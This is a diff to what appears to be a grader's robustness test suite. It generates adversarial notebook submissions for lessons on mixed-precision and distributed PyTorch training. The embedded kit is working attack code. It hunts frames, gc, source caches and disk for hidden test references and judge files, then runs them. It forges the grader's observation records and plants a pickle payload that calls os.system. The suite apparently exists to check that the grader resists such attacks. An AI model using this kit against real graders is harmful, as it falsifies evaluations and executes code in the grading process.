@@ -9,8 +9,10 @@ point it gets is a point the grader gave away.
 
 from __future__ import annotations
 
+import ast
 import copy
 import json
+import re
 from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -760,3 +762,775 @@ def write_l01_attack(student: str, source_nb: Path, dest_dir: Path, ctx: dict) -
     path = dest_dir / f"{L01_LESSON}.ipynb"
     nbformat.write(nb, path)
     return path
+
+
+# -- Attacks by kind on lessons 02-09's hidden tests -----------------------------------------------
+#
+# Every lesson's hidden test is a driver in the kernel and a judge in the grader's process, so
+# nothing named ``_ref_*`` is left to find: these attacks look for the expectation *by kind*, from
+# inside the student's function while the hidden part calls it. ``KIND_KIT`` (the first cell of the
+# submission, student code) walks the student's globals, every caller's frame (locals, a test
+# cell's globals, the functions a test cell's code defines, made again from their code objects),
+# gc referrers of the inputs, every object gc tracks, a thread that watches every thread's frames
+# from the visible part on, the test cells' source (in linecache) and the judges (imported, in
+# sys.modules, on disk); it calls every function of a test cell or of the grader that accepts the
+# inputs, and returns the first answer of the right kind (shape, dtype), else a value of that kind
+# found beside the call, else a wrong answer. On one exercise per run it also attacks the channel:
+# torch.save patched before the driver makes its observer (a pickle that would run code in the
+# grader), or every observer emptied, the harness's list of them cleared and a forged set of
+# observations published. Each attacked exercise is the solution outside the hidden part (so the
+# visible tests pass and the driver runs to its end) and wrong inside it: a point it gets is a
+# point the grader gave away. Each heavy look prints an ``ATTACK-REPORT`` line (what each finder
+# scanned and found, what was tried and used) that the test reads, so an attack that silently
+# does nothing fails the test. A control exercise with a hidden test of the old kind (its
+# reference in the kernel, in sys.modules under grader.judges and in a judges file on disk) shows
+# that the same finders beat it.
+
+KIND_KIT = r'''import ast as _ast
+import gc as _gc
+import importlib as _importlib
+import inspect as _inspect
+import json as _json
+import linecache as _linecache
+import os as _os
+import pickle as _pickle
+import sys as _sys
+import threading as _threading
+import time as _time
+import types as _types
+
+import torch as _torch
+
+#: Every cell of the notebook is compiled by IPython into a file of one folder: code from there is
+#: the student's own; everything else (test cells, the grader's harness, libraries) is not.
+_MY_FOLDER = _os.path.dirname(_sys._getframe().f_code.co_filename)
+_MARKER = __MARKER__  # a file the payload would create in the grader's process
+_SECRET_PATHS = __PATHS__  # where the judges and solutions lie outside the sandbox
+_HIDDEN = "### BEGIN HIDDEN TESTS"
+_calls = {}  # (exercise, pid) -> hidden-phase calls so far
+_watchers = {}  # (exercise, pid) -> the waiting thread's findings
+_busy = []  # re-entrancy: a suspect that calls the attacked function back
+_found = {}  # (exercise, pid) -> the suspect whose answer was plausible
+
+
+def _mine(code):
+    return _os.path.dirname(code.co_filename) == _MY_FOLDER
+
+
+def _origin(fn):
+    """Where a function comes from, by kind: 'mine', 'test cell', 'harness', 'grader', or None
+    (not a Python function, or a library's: torch, numpy, the course package, the standard
+    library)."""
+    if isinstance(fn, _types.MethodType):
+        fn = fn.__func__
+    if not isinstance(fn, _types.FunctionType):
+        return None
+    code = fn.__code__
+    name = code.co_filename
+    module = str(fn.__module__ or "")
+    if _mine(code):
+        return "mine"
+    if name.startswith("<test cell"):
+        return "test cell"
+    if name.startswith("<grader"):
+        return "harness"
+    if module.startswith("grader") or any(
+        part in name for part in ("/grader/", "judges", "solutions")
+    ):
+        return "grader"
+    return None
+
+
+def _suspect_file(name):
+    """A file a hidden test's reference could come from (a quick look before :func:`_origin`):
+    a test cell, the grader's files, judges or solutions; not the harness's own code."""
+    if name.startswith("<grader"):
+        return False
+    return name.startswith("<test cell") or any(p in name for p in ("grader", "judges", "solution"))
+
+
+def _describe(fn):
+    if isinstance(fn, _types.MethodType):
+        fn = fn.__func__
+    if not isinstance(fn, _types.FunctionType):
+        return f"{type(fn).__qualname__} object"
+    code = fn.__code__
+    return f"{fn.__qualname__}@{code.co_filename}:{code.co_firstlineno}"
+
+
+def _hidden_phase():
+    """Whether a test cell's hidden part is calling: a test cell's frame is on the stack at a line
+    after the hidden-tests marker of its source (in linecache, where the harness put it)."""
+    frame = _sys._getframe(1)
+    while frame is not None:
+        name = frame.f_code.co_filename
+        if name.startswith("<test cell"):
+            lines = _linecache.getlines(name)
+            starts = [i + 1 for i, line in enumerate(lines) if _HIDDEN in line]
+            if starts and frame.f_lineno > starts[0]:
+                return True
+        frame = frame.f_back
+    return False
+
+
+def _plausible(got, like):
+    """Whether ``got`` could be returned in place of ``like`` (same kind, shape and dtype)."""
+    if isinstance(like, bool) or isinstance(got, bool):
+        return type(got) is type(like)
+    if isinstance(like, _torch.Tensor):
+        return (
+            type(got) is _torch.Tensor and got.shape == like.shape and got.dtype == like.dtype
+        )
+    if isinstance(like, (tuple, list)):
+        return (
+            type(got) is type(like)
+            and len(got) == len(like)
+            and all(_plausible(a, b) for a, b in zip(got, like))
+        )
+    if isinstance(like, dict):
+        return (
+            isinstance(got, dict)
+            and list(got) == list(like)
+            and all(_plausible(got[k], like[k]) for k in like)
+        )
+    return type(got) is type(like)
+
+
+def _wrong(value):
+    """A wrong answer of the same kind as ``value`` (what the student's code returns on hidden
+    inputs when no attack succeeds)."""
+    if isinstance(value, bool):
+        return not value
+    if isinstance(value, int):
+        return value + 1
+    if isinstance(value, float):
+        return value * 1.5 + 0.25
+    if isinstance(value, _torch.dtype):
+        return _torch.float16 if value == _torch.float32 else _torch.float32
+    if isinstance(value, _torch.Tensor):
+        if value.numel() and bool((value.detach().float() != 0).any()):
+            return _torch.zeros_like(value)
+        return _torch.ones_like(value)
+    if isinstance(value, tuple):
+        return tuple(_wrong(v) for v in value)
+    if isinstance(value, list):
+        return [_wrong(v) for v in value]
+    if isinstance(value, dict):
+        return type(value)((k, _wrong(v)) for k, v in value.items())
+    return value
+
+
+def _callable_with(fn, args, kwargs):
+    try:
+        _inspect.signature(fn).bind(*args, **kwargs)
+        return True
+    except (TypeError, ValueError):
+        return False
+
+
+def _frames():
+    frame = _sys._getframe(2)
+    while frame is not None:
+        yield frame
+        frame = frame.f_back
+
+
+def _scan_namespace(ns, found, values, seen):
+    n = 0
+    try:
+        items = list(ns.items())
+    except Exception:
+        return 0
+    for _name, value in items:
+        n += 1
+        if id(value) in seen:
+            continue
+        seen.add(id(value))
+        origin = _origin(value)
+        if origin in ("test cell", "grader"):
+            found.append(value)
+        elif isinstance(value, _types.ModuleType):
+            if str(getattr(value, "__name__", "")).startswith("grader"):
+                found.append(value)
+        elif origin is None and len(values) < 5000:
+            values.append(value)
+    return n
+
+
+def _by_globals(report, *_):
+    found, values = [], []
+    report["globals"] = {"scanned": _scan_namespace(globals(), found, values, set())}
+    return found, []  # the notebook's own globals hold the student's values only
+
+
+def _by_frames(report, *_):
+    """Every caller's locals, a test cell's globals, and the functions a test cell's code defines
+    (made again from their code objects, should the functions themselves be gone)."""
+    found, values, seen, n, names, codes = [], [], set(), 0, 0, 0
+    for frame in _frames():
+        n += 1
+        if _mine(frame.f_code):
+            continue
+        names += _scan_namespace(frame.f_locals, found, values, seen)
+        if not _suspect_file(frame.f_code.co_filename):
+            continue
+        names += _scan_namespace(frame.f_globals, found, values, seen)
+        for const in frame.f_code.co_consts:
+            # Functions' code only (not a class body's, a comprehension's or a lambda's).
+            if isinstance(const, _types.CodeType) and const.co_flags & _inspect.CO_OPTIMIZED:
+                if const.co_name.startswith("<"):
+                    continue
+                codes += 1
+                if not const.co_freevars:
+                    found.append(_types.FunctionType(const, frame.f_globals))
+    report["frames"] = {"scanned": n, "names": names, "code objects": codes}
+    return found, values
+
+
+def _common(value):
+    """A value too common to say anything of whoever holds it (interned strings, small ints,
+    dtypes: every module refers to them)."""
+    if type(value) is int:
+        return -5 <= value <= 256
+    return isinstance(value, (str, bytes, bool, type(None), _torch.dtype, _torch.device, type))
+
+
+def _by_referrers(report, args):
+    found, values, n = [], [], 0
+    for arg in [a for a in args if not _common(a)][:3]:
+        for holder in _gc.get_referrers(arg):
+            if holder is values or holder is found or holder is args:
+                continue
+            n += 1
+            if isinstance(holder, _types.FrameType):
+                if _mine(holder.f_code):
+                    continue
+                holder = holder.f_locals
+            if isinstance(holder, dict) and len(holder) < 10000:
+                _scan_namespace(holder, found, values, set())
+            elif isinstance(holder, (tuple, list)) and len(holder) < 1000:
+                values.extend(v for v in holder if v is not arg)  # a case: (input, expected)
+    report["referrers"] = {"scanned": n}
+    return found, values
+
+
+def _by_gc(report, *_):
+    objects = _gc.get_objects()
+    # By type, not isinstance: some objects warn when their __class__ is read.
+    functions = [o for o in objects if type(o) is _types.FunctionType]
+    modules = [o for o in objects if type(o) is _types.ModuleType]
+    found = [f for f in functions if _suspect_file(f.__code__.co_filename)]
+    names = [str(vars(m).get("__name__")) for m in modules]
+    names += list(_sys.modules)
+    report["gc"] = {
+        "scanned": len(objects),
+        "functions": len(functions),
+        "grader modules": sorted({n for n in names if n.startswith("grader")}),
+    }
+    return found, []
+
+
+def _watch(key, seconds):
+    """A thread that waits for a reference to appear in any thread's frames."""
+    findings = {"polls": 0, "found": [], "stop": False}
+
+    def run():
+        end = _time.monotonic() + seconds
+        while _time.monotonic() < end and not findings["stop"]:
+            findings["polls"] += 1
+            try:
+                look()
+            except Exception:  # a frame that ended while it was read
+                pass
+            _time.sleep(0.05)
+
+    def look():
+        for frame in list(_sys._current_frames().values()):
+            while frame is not None:
+                if not _mine(frame.f_code):
+                    spaces = [frame.f_locals]
+                    if frame.f_code.co_filename.startswith("<test cell"):
+                        spaces.append(frame.f_globals)
+                    for ns in spaces:
+                        for value in list(ns.values()):
+                            if type(value) is not _types.FunctionType:
+                                continue
+                            if _origin(value) in ("test cell", "grader"):
+                                if all(value is not f for f in findings["found"]):
+                                    findings["found"].append(value)
+                frame = frame.f_back
+
+    thread = _threading.Thread(target=run, daemon=True)
+    thread.start()
+    findings["thread"] = thread
+    _watchers[key] = findings
+    return findings
+
+
+def _by_thread(report, key):
+    findings = _watchers.get(key)
+    if findings is None or not findings["thread"].is_alive():  # none since the visible part
+        findings = _watch(key, 10.0)
+    # At least one whole look at every frame since the hidden part began (two polls: one may
+    # have begun before it), however slowly the machine runs.
+    polls, end = findings["polls"], _time.monotonic() + 10
+    while findings["polls"] < polls + 2 and _time.monotonic() < end:
+        _time.sleep(0.005)
+    findings["stop"] = True
+    findings["thread"].join(3.0)
+    report["thread"] = {"polls": findings["polls"], "alive": findings["thread"].is_alive()}
+    return list(findings["found"]), []
+
+
+def _by_source(report, *_):
+    """The test cells' source, from linecache: definitions and literals of their hidden part."""
+    found, values, chars, definitions = [], [], 0, []
+    for name in [n for n in list(_linecache.cache) if str(n).startswith("<test cell")]:
+        text = "".join(_linecache.getlines(name))
+        chars += len(text)
+        hidden = text.partition(_HIDDEN)[2]
+        try:
+            tree = _ast.parse(hidden)
+        except SyntaxError:
+            continue
+        for node in _ast.walk(tree):
+            if isinstance(node, (_ast.FunctionDef, _ast.ClassDef, _ast.Lambda)):
+                definitions.append(getattr(node, "name", "lambda"))
+            elif isinstance(node, _ast.Assign):
+                try:
+                    values.append(_ast.literal_eval(node.value))
+                except Exception:
+                    pass
+    report["source"] = {"chars": chars, "hidden definitions": definitions}
+    if definitions:  # run the hidden part's definitions, with the caller's globals
+        for frame in _frames():
+            if frame.f_code.co_filename.startswith("<test cell"):
+                ns = dict(frame.f_globals)
+                src = "".join(_linecache.getlines(frame.f_code.co_filename))
+                try:
+                    tree = _ast.parse(src.partition(_HIDDEN)[2])
+                    defs = [n for n in tree.body if isinstance(n, (_ast.FunctionDef,))]
+                    exec(compile(_ast.Module(defs, []), "<test cell source>", "exec"), ns)
+                    found.extend(ns[d.name] for d in defs)
+                except Exception:
+                    pass
+                break
+    return found, values
+
+
+def _by_judges(report, *_):
+    """The judges and solutions: imported, and searched for on disk."""
+    found, modules, files = [], [], []
+    for name, module in list(_sys.modules.items()):  # imported already, by whatever name
+        if str(name).startswith("grader") and module is not None:
+            modules.append(name)
+            found.extend(v for v in vars(module).values() if type(v) is _types.FunctionType)
+    for name in ("grader.judges", "grader.judge", "grader"):
+        try:
+            module = _importlib.import_module(name)
+            modules.append(name)
+            found.extend(v for v in vars(module).values() if callable(v))
+        except Exception:
+            pass
+    try:
+        import pkgutil
+
+        judges = _importlib.import_module("grader.judges")
+        for info in pkgutil.iter_modules(judges.__path__):
+            module = _importlib.import_module(f"grader.judges.{info.name}")
+            modules.append(module.__name__)
+            found.extend(
+                v for v in vars(module).values() if isinstance(v, _types.FunctionType)
+            )
+    except Exception:
+        pass
+    roots = list(_SECRET_PATHS) + ["/opt", "/home", "/tmp", _os.getcwd()]
+    roots.append(_os.path.dirname(_sys.prefix))  # the checkout the environment lives in
+    for root in roots:
+        for folder, dirs, names in _os.walk(root):
+            if folder.count(_os.sep) - root.count(_os.sep) >= 3:
+                dirs[:] = []
+            dirs[:] = [d for d in dirs if d not in ("site-packages", "lib", "include", "bin")]
+            for name in names:
+                path = _os.path.join(folder, name)
+                if ("judges" in path and name.endswith(".py")) or name.endswith(".ipynb"):
+                    try:
+                        with open(path, encoding="utf-8") as fh:
+                            text = fh.read()
+                    except OSError:
+                        continue
+                    files.append(path)
+                    if name.endswith(".py"):
+                        ns = {"__name__": "stolen"}
+                        try:
+                            exec(compile(text, path, "exec"), ns)
+                            found.extend(
+                                v for v in ns.values() if isinstance(v, _types.FunctionType)
+                            )
+                        except Exception:
+                            pass
+    for path in _SECRET_PATHS:
+        if _os.path.exists(path):
+            files.append(path)
+    files = sorted(set(files))
+    report["judges"] = {"modules": modules, "files": files[:20], "file count": len(files)}
+    return found, []
+
+
+_FINDERS = (
+    ("globals", _by_globals),
+    ("frames", _by_frames),
+    ("referrers", _by_referrers),
+    ("gc", _by_gc),
+    ("thread", _by_thread),
+    ("source", _by_source),
+    ("judges", _by_judges),
+)
+
+
+def _suspects_of(name, where):
+    """Objects of a class not defined by the student that have a method ``name`` (for a
+    stateful exercise: a scaler the test drives beside the student's)."""
+    found = []
+    for obj in where:
+        method = vars(type(obj)).get(name) if isinstance(vars(type(obj)), dict) else None
+        method = method or getattr(type(obj), name, None)
+        if isinstance(method, _types.FunctionType) and _origin(method) != "mine":
+            found.append(_types.MethodType(method, obj))
+    return found
+
+
+def _attacked(exercise, honest, args, kwargs, method=None, channel=None):
+    """Call ``honest``; outside the hidden part return its answer; in it, the first time in this
+    process, look for the hidden test's expectation by kind and return the first plausible one
+    (and use the function that gave it again on later calls), else a wrong answer."""
+    result = honest(*args, **kwargs)
+    hidden = not _busy and _hidden_phase()
+    if channel and not hidden:
+        _channel(channel, False, {})
+    key = (exercise, _os.getpid())
+    if not hidden:
+        # A thread that waits for what the hidden part will define (not in a rank's process:
+        # its hidden part runs in other processes).
+        if key not in _watchers and "RANK" not in _os.environ:
+            _watch(key, 10.0)
+        return result
+    call = args if method is None else args[1:]
+    _calls[key] = _calls.get(key, 0) + 1
+    if _calls[key] > 1:
+        fn = _found.get(key)
+        if fn is not None:
+            try:
+                got = fn(*call, **kwargs)
+                if _plausible(got, result):
+                    return got
+            except BaseException:
+                pass
+        return _wrong(result)
+    report = {"exercise": exercise, "pid": _os.getpid()}
+    functions, values = [], []
+    _busy.append(1)
+    try:
+        for name, finder in _FINDERS:
+            begun = _time.perf_counter()
+            try:
+                fs, vs = finder(report, args if name == "referrers" else key)
+                report[name]["suspects"] = [_describe(f) for f in fs if callable(f)][:20]
+                report[name]["values"] = len(vs)
+            except Exception as exc:  # the test fails on an attack that broke
+                report[name] = {"error": f"{type(exc).__name__}: {exc}"}
+                fs, vs = [], []
+            report[name]["seconds"] = round(_time.perf_counter() - begun, 3)
+            functions += fs
+            values += vs
+        if channel:
+            report["channel"] = _channel(channel, True, report)
+        if method is not None:  # a stateful exercise: the same method of any other object
+            holders = [v for v in values if not callable(v)]
+            functions += _suspects_of(method, holders + [f for f in functions])
+        tried = report["tried"] = []
+        report["used"] = None
+        for fn in functions:
+            if not callable(fn) or _origin(fn) == "harness":
+                continue
+            if getattr(getattr(fn, "__code__", None), "co_name", "") == "<module>":
+                continue  # a cell's own code made a function: running it again is no reference
+            if not _callable_with(fn, call, kwargs):
+                continue
+            tried.append(_describe(fn))
+            try:
+                got = fn(*call, **kwargs)
+            except BaseException:
+                continue
+            if _plausible(got, result):
+                report["used"] = _describe(fn)
+                _found[key] = fn
+                return got
+        for value in values:
+            if value is not result and all(value is not a for a in args):
+                if _plausible(value, result):
+                    report["used"] = f"a {type(value).__name__} found beside the call"
+                    return value
+        return _wrong(result)
+    finally:
+        _busy.pop()
+        print("ATTACK-REPORT " + _json.dumps(report, default=str))
+
+
+_MIME = "application/x-grader-observations"
+_channels_done = set()
+
+
+class _Payload:
+    # Unpickled anywhere, it creates the marker file: the judge must never run it.
+    def __reduce__(self):
+        return (_os.system, ("touch " + _MARKER,))
+
+
+def _poisoned_save(obj, f, *args, **kwargs):
+    data = _pickle.dumps(_Payload())
+    if hasattr(f, "write"):
+        f.write(data)
+    else:
+        with open(f, "wb") as fh:
+            fh.write(data)
+
+
+def _patch_serializer():
+    """torch.save, wherever the observer may look it up, writes a pickle that runs code."""
+    import torch.serialization as ser
+
+    _torch.save = ser.save = _poisoned_save
+    return ["torch.save", "torch.serialization.save"]
+
+
+def _observers():
+    """The driver's observers, by kind: objects whose class has call, record, bundle and done,
+    holding a list of records."""
+    found = []
+    for obj in _gc.get_objects():
+        names = vars(type(obj))
+        if all(n in names for n in ("call", "record", "bundle", "done")):
+            if isinstance(getattr(obj, "records", None), list):
+                found.append(obj)
+    return found
+
+
+def _hijack():
+    """Every observer emptied and made to claim its driver ended; the harness's list of
+    observers emptied; one forged set of observations, the live observer's, published in their
+    place."""
+    observers = tuple(_observers())  # not a list: the lists on the stack are the harness's
+    on_stack = [v for f in _frames() for v in list(f.f_locals.values()) if type(v) is list]
+    live = []  # the observer nearest on the stack: the one recording this call
+    for frame in _frames():
+        live = [o for o in observers if any(o is v for v in frame.f_locals.values())][:1]
+        if live:
+            break
+    emptied = 0
+    for value in on_stack:
+        if value and all(any(v is o for o in observers) for v in value):
+            value.clear()
+            emptied += 1
+    forged = []
+    for obs in live + [o for o in observers if all(o is not v for v in live)]:  # live first
+        real = _json.loads(obs.bundle())
+        obs.records.clear()
+        obs.done()
+        fake = _json.dumps(
+            {"exercise": real["exercise"], "seed": real["seed"], "done": True, "records": []}
+        )
+        obs.bundle = lambda fake=fake: fake
+        forged.append(fake)
+    from IPython.display import publish_display_data
+
+    for fake in forged[:1]:
+        publish_display_data({_MIME: fake}, {})
+    return {"observers": len(observers), "live": len(live), "lists emptied": emptied}
+
+
+def _channel(kind, hidden, report):
+    """The observation channel attacked once per process: the serializer before the driver makes
+    its observer (the visible part), the observers while the hidden part runs."""
+    key = (kind, _os.getpid())
+    if kind == "serializer" and not hidden and key not in _channels_done:
+        _channels_done.add(key)
+        print("ATTACK-CHANNEL " + _json.dumps({"serializer": _patch_serializer()}))
+    if kind == "hijack" and hidden and key not in _channels_done:
+        _channels_done.add(key)
+        return _hijack()
+    return None
+'''
+
+#: The exercise attacked in each lesson: its grade id, the function or class the solution cell
+#: defines, and for a class the method whose answers are attacked (a stateful exercise).
+KIND_EXERCISES: dict[str, tuple[str, str, str | None]] = {
+    "02-loss-scaling": ("dynamic_loss_scaler", "DynamicLossScaler", "get_scale"),
+    "03-autocast": ("trace_dtypes", "trace_dtypes", None),
+    "04-batchnorm": ("bn_momentum", "pytorch_momentum", None),
+    "05-accumulation": ("accumulated_step", "accumulated_step", None),
+    "06-multi-gpu": ("ddp_amp_worker", "ddp_amp_worker", None),  # runs in 2 ranks
+    "08-float8": ("current_scaling", "quantize_current", None),
+    "09-capstone": ("transformer_flops", "transformer_flops", None),
+}
+
+#: Statements of a lesson's setup cell the attacked exercise does not need, left out to save time
+#: (lesson 05's: the digits data set, seconds of scikit-learn): the names they bind.
+KIND_UNNEEDED: dict[str, tuple[str, ...]] = {"05-accumulation": ("x_train",)}
+
+
+def _without(source: str, names: tuple[str, ...]) -> str:
+    """``source`` without its top-level statements that bind any of ``names`` (each must bind
+    one: a setup cell that changed is noticed)."""
+    tree = ast.parse(source)
+    lines = source.splitlines(keepends=True)
+    for name in names:
+        found = [
+            node
+            for node in tree.body
+            if any(isinstance(n, ast.Name) and n.id == name for n in ast.walk(node))
+            and isinstance(node, ast.Assign)
+        ]
+        assert len(found) == 1, f"the setup cell binds {name!r} in {len(found)} statements"
+        node = found[0]
+        for i in range(node.lineno - 1, node.end_lineno):
+            lines[i] = ""
+    return "".join(lines)
+
+
+#: The lessons attacked where a test cell runs in a fork of the kernel and where it runs in the
+#: kernel itself (as where CUDA forbids a fork), with the channel attack made on each (None: the
+#: finders only). The stateful and the multi-process exercises are attacked both ways; the
+#: serializer comes last (in the kernel, a patched torch.save would outlive its test cell).
+KIND_PATHS: dict[str, dict[str, str | None]] = {
+    "fork": {
+        "02-loss-scaling": None,
+        "03-autocast": "hijack",
+        "05-accumulation": None,
+        "06-multi-gpu": None,
+        "09-capstone": "serializer",
+    },
+    "in-kernel": {
+        "02-loss-scaling": None,
+        "04-batchnorm": "hijack",
+        "06-multi-gpu": None,
+        "08-float8": "serializer",
+    },
+}
+
+#: The control: a hidden test of the old kind, whose reference the kernel holds in every place the
+#: finders look.
+KIND_CONTROL = "leaky_double"
+KIND_CONTROL_SOLUTION = "def leaky_double(x):\n    return x * 2\n"
+KIND_CONTROL_TEST = """# Visible tests
+import torch
+assert torch.equal(leaky_double(torch.ones(3)), torch.full((3,), 2.0))
+### BEGIN HIDDEN TESTS
+# A hidden test of the old kind: its reference is in the kernel beside the student's code, in the
+# test's namespace, in its source, in sys.modules under grader.judges and in a judges file.
+import os, sys, types
+
+
+def _secret_reference(x):
+    return x * 2
+
+
+_module = types.ModuleType("grader.judges.l99_leaky")
+_module._secret_reference = _secret_reference
+sys.modules[_module.__name__] = _module
+os.makedirs("/tmp/leak/grader/judges", exist_ok=True)
+with open("/tmp/leak/grader/judges/l99_leaky.py", "w") as _f:
+    _f.write("def _secret_reference(x):\\n    return x * 2\\n")
+_gen = torch.Generator().manual_seed(1234)
+_x = torch.randn(50, generator=_gen)
+_expected = _secret_reference(_x)
+assert torch.equal(leaky_double(_x), _expected), "leaky_double is wrong on the hidden inputs"
+### END HIDDEN TESTS
+"""
+
+#: What every heavy look of the kit reports, one finder each.
+KIND_FINDERS = ("globals", "frames", "referrers", "gc", "thread", "source", "judges")
+
+
+def kind_attack_source(
+    grade_id: str, name: str, method: str | None, channel: str | None, source: str
+) -> str:
+    """The solution cell ``source`` (defining ``name``) made into the attack: the solution kept
+    as ``_honest_<name>`` (or a base class) and ``name`` calling it through ``_attacked``."""
+    if method is not None:
+        honest = source.replace(f"class {name}", f"class _Honest{name}", 1)
+        assert honest != source, name
+        return (
+            f"{honest}\n\n\nclass {name}(_Honest{name}):\n"
+            f"    def {method}(self, *args, **kwargs):\n"
+            f"        return _attacked({grade_id!r}, _Honest{name}.{method}, (self, *args), "
+            f"kwargs,\n                         method={method!r}, channel={channel!r})\n"
+        )
+    honest = source.replace(f"def {name}(", f"def _honest_{name}(", 1)
+    assert honest != source, name
+    return (
+        f"{honest}\n\n@__import__('functools').wraps(_honest_{name})\n"
+        f"def {name}(*args, **kwargs):\n"
+        f"    return _attacked({grade_id!r}, _honest_{name}, args, kwargs, channel={channel!r})\n"
+    )
+
+
+def _graded(cell, grade_id: str, points: float | None) -> None:
+    cell.metadata["nbgrader"] = {
+        "grade": points is not None,
+        "solution": points is None,
+        "grade_id": grade_id,
+        "locked": False,
+        "schema_version": 3,
+    }
+    if points is not None:
+        cell.metadata["nbgrader"]["points"] = points
+
+
+def kind_attack_notebook(
+    path: str, marker: Path, secret_paths: list[Path], solutions: Path
+) -> tuple[nbformat.NotebookNode, dict[int, str | None]]:
+    """One submission attacking every lesson of ``KIND_PATHS[path]``: the kit, then per lesson
+    its setup cell (the first code cell: the only one the exercise and its test need; less
+    ``KIND_UNNEEDED``), the
+    attacked solution cell and the test cell as nbgrader restores it (hidden part included),
+    then the control. Returns the notebook and ``{test cell index: lesson}`` (None: the control).
+
+    ``marker`` is the file the serializer's payload would create; ``secret_paths`` are where the
+    judges and solutions lie outside the sandbox (the kit looks for them there too)."""
+    kit = KIND_KIT.replace("__MARKER__", repr(str(marker)))
+    kit = kit.replace("__PATHS__", repr([str(p) for p in secret_paths]))
+    nb = nbformat.v4.new_notebook()
+    nb.cells.append(nbformat.v4.new_code_cell(kit))
+    tests: dict[int, str | None] = {}
+    for lesson, channel in KIND_PATHS[path].items():
+        grade_id, name, method = KIND_EXERCISES[lesson]
+        source = nbformat.read(solutions / lesson / f"{lesson}.ipynb", as_version=4)
+        setup = next(c for c in source.cells if c.cell_type == "code")
+        setup.source = _without(setup.source, KIND_UNNEEDED.get(lesson, ()))
+        answer, test = _cell(source, grade_id), _cell(source, f"{grade_id}_tests")
+        answer.source = kind_attack_source(grade_id, name, method, channel, answer.source)
+        for cell in (setup, answer, test):
+            cell.outputs, cell.execution_count = [], None
+        nb.cells += [setup, answer, test]
+        tests[len(nb.cells) - 1] = lesson
+    answer = nbformat.v4.new_code_cell(
+        kind_attack_source(KIND_CONTROL, KIND_CONTROL, None, None, KIND_CONTROL_SOLUTION)
+    )
+    _graded(answer, KIND_CONTROL, None)
+    test = nbformat.v4.new_code_cell(KIND_CONTROL_TEST)
+    _graded(test, f"{KIND_CONTROL}_tests", 1)
+    nb.cells += [answer, test]
+    tests[len(nb.cells) - 1] = None
+    return nb, tests
+
+
+def kind_reports(cell) -> tuple[list[dict], list[dict]]:
+    """The kit's reports printed in an executed cell (a rank's lines included): its heavy looks
+    and its channel attacks."""
+    text = "".join(
+        "".join(o.get("text", "")) for o in cell.outputs if o.get("output_type") == "stream"
+    )
+    looks = [json.loads(m) for m in re.findall(r"ATTACK-REPORT (\{.*\})", text)]
+    channels = [json.loads(m) for m in re.findall(r"ATTACK-CHANNEL (\{.*\})", text)]
+    return looks, channels
